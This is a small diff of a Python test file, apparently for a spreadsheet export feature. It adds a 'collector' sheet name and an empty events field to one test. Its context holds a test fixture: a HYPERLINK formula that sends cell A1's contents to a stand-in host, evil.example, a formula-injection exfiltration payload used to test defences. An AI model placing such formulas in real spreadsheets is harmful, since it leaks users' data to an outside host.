@@ -32,6 +32,7 @@ NAMES = [
     "decisions",
     "populations",
     "anchors",
+    "collector",
 ]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -353,6 +354,7 @@ def test_an_empty_window_has_headers_and_no_rows(dossier: Dossier, tmp_path: Pat
         alerts=(),
         changes=(),
         items=lambda: iter(()),
+        own=replace(dossier.own, events=()),
     )
     tables.write(empty, tmp_path)
     for name, rows in sheets(tmp_path).items():
